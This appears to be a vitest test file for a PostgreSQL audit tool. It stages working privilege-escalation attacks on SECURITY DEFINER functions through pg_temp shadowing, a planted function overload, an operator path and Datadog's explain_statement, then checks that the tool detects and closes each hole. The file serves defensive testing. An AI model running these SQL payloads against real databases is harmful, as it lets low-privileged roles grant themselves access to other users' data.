/**
 * Class `opaque-code`, the caller's temporary schema: a SECURITY DEFINER function runs in its caller's session,
 * and a relation its body names without a schema is looked up first in that session's `pg_temp` unless its
 * search_path ends with `pg_temp`. Pinned paths that do not (`pg_catalog, public`, `public`, `pg_catalog`) look
 * reviewable to every other check. Each path is walked first as the attacker — umami_user's DDL runs an
 * administrator's DDL-audit event trigger, app_user's write runs the application's audit trigger, app_user
 * calls a monitoring wrapper — and each time the attacker's temporary table or view ran its own code with the
 * administrator's rights and granted itself a role. Then `verify` fails naming the function, the remedy (the
 * same path with `pg_temp` last) is run as written, the attack is repeated and fails, the function keeps doing
 * its job, and `verify` exits 0. The same for a pinned schema where app_user was granted CREATE: its overload
 * runs with the administrator's rights although the administrator's own path is safe. The clean twin: the same bodies fully qualified, or pinned with `pg_temp` last,
 * with a comment that names Umami's table (a comment reads nothing).
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { withClient } from "../../../scripts/kernel/db.js";
import {
  applyRemedy,
  rows,
  startAuditStage,
  statements as statementsOf,
  verifyCli,
  type AuditStage,
} from "./helpers.js";

let stage: AuditStage;
const SECRET = "umami-secret-site";
const CHECK = "inward: opaque code that runs with other roles' rights";

beforeAll(async () => {
  stage = await startAuditStage("Temp-Lookup-Password-0123456789abcd");
  await stage.run("umami", `INSERT INTO umami.website VALUES ('00000000-0000-0000-0000-000000000031', '${SECRET}')`);
});
afterAll(async () => stage?.server.stop());

/** A trigger function in the attacker's own pg_temp that grants `grant` when anyone else runs it. */
const grantingTrigger = (attacker: string, grant: string) => `
  CREATE FUNCTION pg_temp.tf() RETURNS trigger LANGUAGE plpgsql AS $f$
  BEGIN
    IF current_user <> '${attacker}' THEN EXECUTE '${grant}'; END IF;
    RETURN NULL;
  END $f$`;

describe("the caller's temporary schema in an administrator's SECURITY DEFINER code", () => {
  it("an administrator's DDL-audit event trigger pinned to pg_catalog, public inserts into umami_user's temporary table, whose trigger grants umami_user pg_read_all_data; verify fails naming it; pg_temp last closes it", async () => {
    await stage.run(
      "admin",
      `
      CREATE TABLE public.ddl_log (at timestamptz DEFAULT now(), by name, tag text, object text);
      CREATE FUNCTION public.log_ddl() RETURNS event_trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, public AS $$
      DECLARE o record;
      BEGIN
        FOR o IN SELECT * FROM pg_event_trigger_ddl_commands() LOOP
          INSERT INTO ddl_log (by, tag, object) VALUES (session_user, o.command_tag, o.object_identity);
        END LOOP;
      END $$;
      REVOKE EXECUTE ON FUNCTION public.log_ddl() FROM PUBLIC`,
    );
    await stage.run("superuser", "CREATE EVENT TRIGGER ddl_audit ON ddl_command_end EXECUTE FUNCTION public.log_ddl()");
    // The attack, in one session of umami_user's: its temporary ddl_log (INSERT for the administrator through its
    // default privileges) shadows public.ddl_log, and its trigger runs with the administrator's rights.
    const attack = async () => {
      await stage.run("umami", "ALTER DEFAULT PRIVILEGES FOR ROLE umami_user GRANT INSERT ON TABLES TO PUBLIC");
      await stage.run(
        "umami",
        `
        CREATE TEMP TABLE ddl_log (at timestamptz, by name, tag text, object text);
        ${grantingTrigger("umami_user", "GRANT pg_read_all_data TO umami_user")};
        CREATE TRIGGER t BEFORE INSERT ON pg_temp.ddl_log FOR EACH ROW EXECUTE FUNCTION pg_temp.tf();
        CREATE TABLE umami.scratch (a int);
        DROP TABLE umami.scratch`,
      );
      await stage.run("umami", "ALTER DEFAULT PRIVILEGES FOR ROLE umami_user REVOKE INSERT ON TABLES FROM PUBLIC");
    };
    try {
      await expect(rows(stage, "umami", "SELECT email FROM public.customers")).rejects.toThrow(/permission denied/);
      await attack();
      expect((await rows(stage, "umami", "SELECT email FROM public.customers")).length).toBeGreaterThan(0);
      await stage.run("admin", "REVOKE pg_read_all_data FROM umami_user");

      const before = await verifyCli(stage);
      expect(before.code).toBe(1);
      expect(before.finding("inward: event triggers")!.severity).toBe("pass"); // pinned: what the catalogs show
      const found = before.finding(CHECK)!;
      expect(found.severity).toBe("fail");
      expect(found.objects).toEqual([
        expect.stringMatching(
          /^function public\.log_ddl\(\) \(owner app_admin, SECURITY DEFINER, run by event trigger ddl_audit\) — its pinned search_path \(pg_catalog, public\) does not end with pg_temp, so the relations it names without a schema \(ddl_log\) are looked up first in the temporary schema of the session that runs it, where .*umami_user/,
        ),
      ]);
      expect(await applyRemedy(stage, found.remedy, "admin")).toEqual([
        'ALTER FUNCTION "public"."log_ddl"() SET "search_path" TO "pg_catalog", "public", "pg_temp";',
      ]);

      await stage.run("admin", "DELETE FROM public.ddl_log");
      await attack();
      await expect(rows(stage, "umami", "SELECT email FROM public.customers")).rejects.toThrow(/permission denied/);
      // The DDL audit keeps logging Umami's DDL, into the administrator's table.
      expect(await rows(stage, "admin", "SELECT object FROM public.ddl_log WHERE tag = 'CREATE TABLE'")).toContainEqual(
        {
          object: "umami.scratch",
        },
      );
      const after = await verifyCli(stage);
      expect(after.finding(CHECK)!.severity).toBe("pass");
      expect(after.code).toBe(0);
    } finally {
      await stage.run("admin", "REVOKE pg_read_all_data FROM umami_user");
      await stage.run("superuser", "DROP EVENT TRIGGER IF EXISTS ddl_audit");
      await stage.run("admin", "DROP FUNCTION IF EXISTS public.log_ddl(); DROP TABLE IF EXISTS public.ddl_log");
    }
  });

  it("the application's SECURITY DEFINER audit trigger (EXECUTE revoked) and a monitoring wrapper granted to app_user run app_user's temporary objects with the administrator's rights; verify fails naming both; pg_temp last closes them", async () => {
    await stage.run(
      "admin",
      `
      CREATE TABLE public.order_audit (at timestamptz DEFAULT now(), by name, op text, order_id bigint);
      CREATE FUNCTION public.audit_orders() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS $$
      BEGIN INSERT INTO order_audit (by, op, order_id) VALUES (session_user, TG_OP, NEW.id); RETURN NEW; END $$;
      REVOKE EXECUTE ON FUNCTION public.audit_orders() FROM PUBLIC;
      CREATE TRIGGER orders_audit AFTER UPDATE ON public.orders FOR EACH ROW EXECUTE FUNCTION public.audit_orders();
      GRANT UPDATE ON public.orders TO app_user;
      CREATE SCHEMA monitor;
      CREATE FUNCTION monitor.active_sessions() RETURNS TABLE (pid int, usename name, state text)
        LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog AS $$ SELECT pid, usename, state FROM pg_stat_activity $$;
      REVOKE EXECUTE ON FUNCTION monitor.active_sessions() FROM PUBLIC;
      GRANT USAGE ON SCHEMA monitor TO app_user;
      GRANT EXECUTE ON FUNCTION monitor.active_sessions() TO app_user`,
    );
    const grant = "GRANT umami_user TO app_user";
    const viaTrigger = `
      CREATE TEMP TABLE order_audit (at timestamptz, by name, op text, order_id bigint);
      GRANT INSERT ON order_audit TO PUBLIC;
      ${grantingTrigger("app_user", grant)};
      CREATE TRIGGER t BEFORE INSERT ON pg_temp.order_audit FOR EACH ROW EXECUTE FUNCTION pg_temp.tf();
      UPDATE public.orders SET status = status WHERE id = 1`;
    const viaWrapper = `
      CREATE FUNCTION pg_temp.pwn() RETURNS text LANGUAGE plpgsql AS $f$ BEGIN EXECUTE '${grant}'; RETURN current_user; END $f$;
      CREATE TEMP VIEW pg_stat_activity AS SELECT 1 AS pid, 'x'::name AS usename, pg_temp.pwn() AS state;
      GRANT SELECT ON pg_stat_activity TO PUBLIC;
      SELECT * FROM monitor.active_sessions()`;
    try {
      for (const attack of [viaTrigger, viaWrapper]) {
        await expect(rows(stage, "app", "SELECT name FROM umami.website")).rejects.toThrow(/permission denied/);
        await stage.run("app", attack);
        expect(await rows(stage, "app", "SELECT name FROM umami.website")).toEqual([{ name: SECRET }]);
        await stage.run("admin", "REVOKE umami_user FROM app_user");
      }

      const before = await verifyCli(stage);
      expect(before.code).toBe(1);
      const found = before.finding(CHECK)!;
      expect(found.severity).toBe("fail");
      expect(found.objects).toEqual([
        expect.stringMatching(
          /^function public\.audit_orders\(\) \(owner app_admin, SECURITY DEFINER, run by trigger orders_audit ON public\.orders\) — its pinned search_path \(public\) does not end with pg_temp, so the relations it names without a schema \(order_audit\)/,
        ),
        expect.stringMatching(
          /^function monitor\.active_sessions\(\) \(owner app_admin, SECURITY DEFINER\) — its pinned search_path \(pg_catalog\) does not end with pg_temp, so the relations it names without a schema \(pg_stat_activity\)/,
        ),
      ]);
      expect(await applyRemedy(stage, found.remedy, "admin")).toEqual([
        'ALTER FUNCTION "public"."audit_orders"() SET "search_path" TO "public", "pg_temp";',
        'ALTER FUNCTION "monitor"."active_sessions"() SET "search_path" TO "pg_catalog", "pg_temp";',
      ]);

      await stage.run("app", viaTrigger);
      await stage.run("app", viaWrapper);
      await expect(rows(stage, "app", "SELECT name FROM umami.website")).rejects.toThrow(/permission denied/);
      // Both keep doing their job: the audit row lands in the administrator's table, the wrapper reads the server's view.
      expect((await rows(stage, "admin", "SELECT by FROM public.order_audit")).at(-1)).toEqual({ by: "app_user" });
      expect((await rows(stage, "app", "SELECT pid FROM monitor.active_sessions()")).length).toBeGreaterThan(0);
      const after = await verifyCli(stage);
      expect(after.finding(CHECK)!.severity).toBe("pass");
      expect(after.code).toBe(0);
    } finally {
      await stage.run("admin", "REVOKE umami_user FROM app_user");
      await stage.run(
        "admin",
        `DROP TRIGGER IF EXISTS orders_audit ON public.orders; DROP FUNCTION IF EXISTS public.audit_orders();
         DROP TABLE IF EXISTS public.order_audit; DROP SCHEMA IF EXISTS monitor CASCADE; REVOKE UPDATE ON public.orders FROM app_user`,
      );
    }
  });

  it("the same audit trigger writing through EXECUTE 'INSERT INTO order_audit …' is hijacked the same way; verify fails naming the relation in its SQL text; pg_temp last closes it", async () => {
    await stage.run(
      "admin",
      `
      CREATE TABLE public.order_audit (op text, at timestamptz DEFAULT now());
      CREATE FUNCTION public.audit_dyn() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS $$
      BEGIN EXECUTE 'INSERT INTO order_audit (op) VALUES ($1)' USING TG_OP; RETURN NEW; END $$;
      REVOKE EXECUTE ON FUNCTION public.audit_dyn() FROM PUBLIC;
      CREATE TRIGGER orders_dyn AFTER UPDATE ON public.orders FOR EACH ROW EXECUTE FUNCTION public.audit_dyn();
      GRANT UPDATE ON public.orders TO app_user`,
    );
    const attack = `
      CREATE TEMP TABLE order_audit (op text, at timestamptz);
      GRANT INSERT ON order_audit TO PUBLIC;
      ${grantingTrigger("app_user", "GRANT umami_user TO app_user")};
      CREATE TRIGGER t BEFORE INSERT ON pg_temp.order_audit FOR EACH ROW EXECUTE FUNCTION pg_temp.tf();
      UPDATE public.orders SET status = status WHERE id = 1`;
    try {
      await stage.run("app", attack);
      expect(await rows(stage, "app", "SELECT name FROM umami.website")).toEqual([{ name: SECRET }]);
      await stage.run("admin", "REVOKE umami_user FROM app_user");
      const before = await verifyCli(stage);
      expect(before.code).toBe(1);
      const found = before.finding(CHECK)!;
      expect(found.objects).toEqual([
        expect.stringMatching(
          /^function public\.audit_dyn\(\) \(owner app_admin, SECURITY DEFINER, run by trigger orders_dyn ON public\.orders\) — its pinned search_path \(public\) does not end with pg_temp, so the relations it names without a schema \(order_audit\)/,
        ),
      ]);
      expect(await applyRemedy(stage, found.remedy, "admin")).toEqual([
        'ALTER FUNCTION "public"."audit_dyn"() SET "search_path" TO "public", "pg_temp";',
      ]);
      await stage.run("app", attack);
      await expect(rows(stage, "app", "SELECT name FROM umami.website")).rejects.toThrow(/permission denied/);
      expect(await rows(stage, "admin", "SELECT op FROM public.order_audit")).toContainEqual({ op: "UPDATE" });
      expect((await verifyCli(stage)).code).toBe(0);
    } finally {
      await stage.run("admin", "REVOKE umami_user FROM app_user");
      await stage.run(
        "admin",
        `DROP TRIGGER IF EXISTS orders_dyn ON public.orders; DROP FUNCTION IF EXISTS public.audit_dyn();
         DROP TABLE IF EXISTS public.order_audit; REVOKE UPDATE ON public.orders FROM app_user`,
      );
    }
  });

  it("an administrator's SECURITY DEFINER function pinned to public, where app_user was granted CREATE, runs app_user's overload with the administrator's rights even once the administrator's own path is safe; verify fails naming it; the remedy's path closes it", async () => {
    await stage.run(
      "admin",
      `
      GRANT CREATE ON SCHEMA public TO app_user;
      ALTER ROLE app_admin SET search_path TO "$user";
      CREATE FUNCTION public.orders_size() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp
        AS $$ SELECT pg_total_relation_size('public.orders') $$;
      REVOKE EXECUTE ON FUNCTION public.orders_size() FROM PUBLIC;
      GRANT EXECUTE ON FUNCTION public.orders_size() TO app_user`,
    );
    // An unknown literal prefers the string category: the text overload in public beats pg_catalog's regclass one.
    await stage.run(
      "app",
      `CREATE FUNCTION public.pg_total_relation_size(text) RETURNS bigint LANGUAGE plpgsql AS $f$
       BEGIN
         IF current_user <> 'app_user' THEN EXECUTE 'GRANT umami_user TO app_user'; END IF;
         RETURN 0;
       END $f$`,
    );
    try {
      await stage.run("app", "SELECT public.orders_size()");
      expect(await rows(stage, "app", "SELECT name FROM umami.website")).toEqual([{ name: SECRET }]);
      await stage.run("admin", "REVOKE umami_user FROM app_user");

      const before = await verifyCli(stage);
      expect(before.code).toBe(1);
      expect(
        before.finding("inward: administrators' search_path into schemas other roles can create in")!.severity,
      ).toBe("pass");
      const found = before.finding(CHECK)!;
      expect(found.objects).toEqual([
        "function public.orders_size() (owner app_admin, SECURITY DEFINER) — its pinned search_path (public, pg_temp) reaches schema public, where app_user (granted CREATE) create objects",
      ]);
      expect(await applyRemedy(stage, found.remedy, "admin")).toEqual([
        'ALTER FUNCTION "public"."orders_size"() SET "search_path" TO "pg_catalog", "pg_temp";',
      ]);
      const [size] = await rows<{ size: string }>(stage, "app", "SELECT public.orders_size() AS size");
      expect(Number(size.size)).toBeGreaterThan(0); // pg_catalog's, measuring the table
      await expect(rows(stage, "app", "SELECT name FROM umami.website")).rejects.toThrow(/permission denied/);
      const after = await verifyCli(stage);
      expect(after.finding(CHECK)!.severity).toBe("pass");
      expect(after.code).toBe(0);
    } finally {
      await stage.run("admin", "REVOKE umami_user FROM app_user");
      await stage.run("app", "DROP FUNCTION IF EXISTS public.pg_total_relation_size(text)");
      await stage.run(
        "admin",
        `DROP FUNCTION IF EXISTS public.orders_size(); REVOKE CREATE ON SCHEMA public FROM app_user;
         ALTER ROLE app_admin RESET search_path`,
      );
    }
  });

  it("clean: fully qualified bodies pinned to pg_catalog, and pg_temp placed last, raise nothing; a comment naming umami.website or EXECUTE is no finding", async () => {
    await stage.run(
      "admin",
      `
      CREATE TABLE public.ddl_log (at timestamptz DEFAULT now(), by name, tag text);
      CREATE FUNCTION public.log_ddl() RETURNS event_trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = '' AS $$
      BEGIN INSERT INTO public.ddl_log (by, tag) VALUES (session_user, tg_tag); END $$;
      REVOKE EXECUTE ON FUNCTION public.log_ddl() FROM PUBLIC;
      CREATE FUNCTION public.session_count() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
        AS $$ -- Counts sessions only: umami.website and the other tables are not read, nothing is EXECUTEd.
              SELECT count(*) FROM pg_stat_activity $$;
      REVOKE EXECUTE ON FUNCTION public.session_count() FROM PUBLIC;
      GRANT EXECUTE ON FUNCTION public.session_count() TO app_user`,
    );
    await stage.run("superuser", "CREATE EVENT TRIGGER ddl_audit ON ddl_command_end EXECUTE FUNCTION public.log_ddl()");
    try {
      const result = await verifyCli(stage);
      expect(result.finding(CHECK)!.severity).toBe("pass");
      expect(result.finding("inward: views and functions that read Umami's tables")!.severity).toBe("pass");
      expect(result.finding("inward: SECURITY DEFINER functions of the administrators")).toMatchObject({
        severity: "warn",
        objects: [
          "function public.session_count() runs as app_admin for app_user — reviewable: pinned search_path, no dynamic SQL, sql",
        ],
      });
      expect(result.code).toBe(0);
    } finally {
      await stage.run("superuser", "DROP EVENT TRIGGER IF EXISTS ddl_audit");
      await stage.run(
        "admin",
        "DROP FUNCTION IF EXISTS public.log_ddl(), public.session_count(); DROP TABLE IF EXISTS public.ddl_log",
      );
    }
  });
});

describe("a SECURITY DEFINER function reached without its schema", () => {
  it("an administrator's dynamic-SQL function behind a schema app_user cannot use, called through an operator in public, lets app_user grant itself umami_user; definer-escalation names it; REVOKE EXECUTE closes it", async () => {
    await stage.run(
      "admin",
      `
      CREATE SCHEMA admin_tools;
      CREATE FUNCTION admin_tools.run_as_admin(text, text) RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER
        SET search_path = pg_catalog, pg_temp AS $$ BEGIN EXECUTE $1; RETURN true; END $$;
      REVOKE EXECUTE ON FUNCTION admin_tools.run_as_admin(text, text) FROM PUBLIC;
      GRANT EXECUTE ON FUNCTION admin_tools.run_as_admin(text, text) TO app_user;
      CREATE OPERATOR public.==> (LEFTARG = text, RIGHTARG = text, FUNCTION = admin_tools.run_as_admin)`,
    );
    const attack = "SELECT 'GRANT umami_user TO app_user'::text OPERATOR(public.==>) ''::text";
    const definers = "inward: SECURITY DEFINER functions of the administrators";
    try {
      await expect(rows(stage, "app", "SELECT admin_tools.run_as_admin('SELECT 1', '')")).rejects.toThrow(
        /permission denied for schema admin_tools/,
      );
      await stage.run("app", attack);
      expect(await rows(stage, "app", "SELECT name FROM umami.website")).toEqual([{ name: SECRET }]);
      await stage.run("admin", "REVOKE umami_user FROM app_user");

      const before = await verifyCli(stage);
      expect(before.code).toBe(1);
      expect(before.finding(definers)).toMatchObject({
        severity: "fail",
        objects: ["function admin_tools.run_as_admin(text, text) runs as app_admin for app_user — fails: dynamic SQL"],
      });
      expect(await applyRemedy(stage, before.finding(definers)!.remedy, "admin")).toEqual([
        'REVOKE EXECUTE ON FUNCTION "admin_tools"."run_as_admin"(text, text) FROM "app_user";',
      ]);
      await expect(rows(stage, "app", attack)).rejects.toThrow(/permission denied for function run_as_admin/);
      const after = await verifyCli(stage);
      expect(after.finding(definers)!.severity).not.toBe("fail");
      expect(after.code).toBe(0);
    } finally {
      await stage.run("admin", "REVOKE umami_user FROM app_user");
      await stage.run(
        "admin",
        "DROP SCHEMA IF EXISTS admin_tools CASCADE; DROP OPERATOR IF EXISTS public.==> (text, text)",
      );
    }
  });
});

describe("escalation from another database of the cluster", () => {
  it("Datadog's explain_statement installed in another database lets its agent grant itself umami_user (roles are cluster-wide) and read Umami's rows here; verify fails naming that database; the remedy there closes it", async () => {
    const reports = await stage.server.createDatabase("reports");
    const inReports = async (who: "admin" | "app", sql: string) =>
      withClient(who === "admin" ? reports : { ...stage.as("app"), database: "reports" }, (c) => c.query(sql));
    await inReports(
      "admin",
      `
      CREATE SCHEMA datadog;
      GRANT USAGE ON SCHEMA datadog TO app_user;
      CREATE FUNCTION datadog.explain_statement(l_query text, OUT explain json) RETURNS SETOF json
        LANGUAGE plpgsql SECURITY DEFINER RETURNS NULL ON NULL INPUT AS $$
      DECLARE curs REFCURSOR; plan JSON;
      BEGIN
        OPEN curs FOR EXECUTE pg_catalog.concat('EXPLAIN (FORMAT JSON) ', l_query);
        FETCH curs INTO plan; CLOSE curs; RETURN QUERY SELECT plan;
      END; $$;
      REVOKE EXECUTE ON FUNCTION datadog.explain_statement(text) FROM PUBLIC;
      GRANT EXECUTE ON FUNCTION datadog.explain_statement(text) TO app_user`,
    );
    // The planner folds an IMMUTABLE function at plan time, as the administrator; it calls a VOLATILE one.
    const attack = `
      CREATE FUNCTION pg_temp.g() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'GRANT umami_user TO app_user'; RETURN 1; END $f$;
      CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RETURN pg_temp.g(); END $f$;
      SELECT datadog.explain_statement('SELECT pg_temp.f()')`;
    const check = "outward: database reports";
    try {
      await inReports("app", attack);
      expect(await rows(stage, "app", "SELECT name FROM umami.website")).toEqual([{ name: SECRET }]);
      await stage.run("admin", "REVOKE umami_user FROM app_user");

      const before = await verifyCli(stage);
      expect(before.code).toBe(1);
      const found = before.finding(check)!;
      expect(found.severity).toBe("fail");
      expect(found.objects).toContain(
        "inward: SECURITY DEFINER functions of the administrators: function datadog.explain_statement(l_query text, OUT explain json) runs as app_admin for app_user — fails: search_path not pinned, dynamic SQL",
      );
      const applied = statementsOf(found.remedy).filter((s) => s.includes("explain_statement"));
      expect(applied).toEqual([
        'REVOKE EXECUTE ON FUNCTION "datadog"."explain_statement"(l_query text, OUT explain json) FROM "app_user";',
      ]);
      for (const sql of applied) await inReports("admin", sql);
      await expect(inReports("app", attack)).rejects.toThrow(/permission denied for function explain_statement/);
      const after = await verifyCli(stage);
      expect(after.finding(check)!.severity).not.toBe("fail");
      expect(after.code).toBe(0);
    } finally {
      await stage.run("admin", "REVOKE umami_user FROM app_user");
      await inReports("admin", "DROP SCHEMA IF EXISTS datadog CASCADE");
    }
  });
});
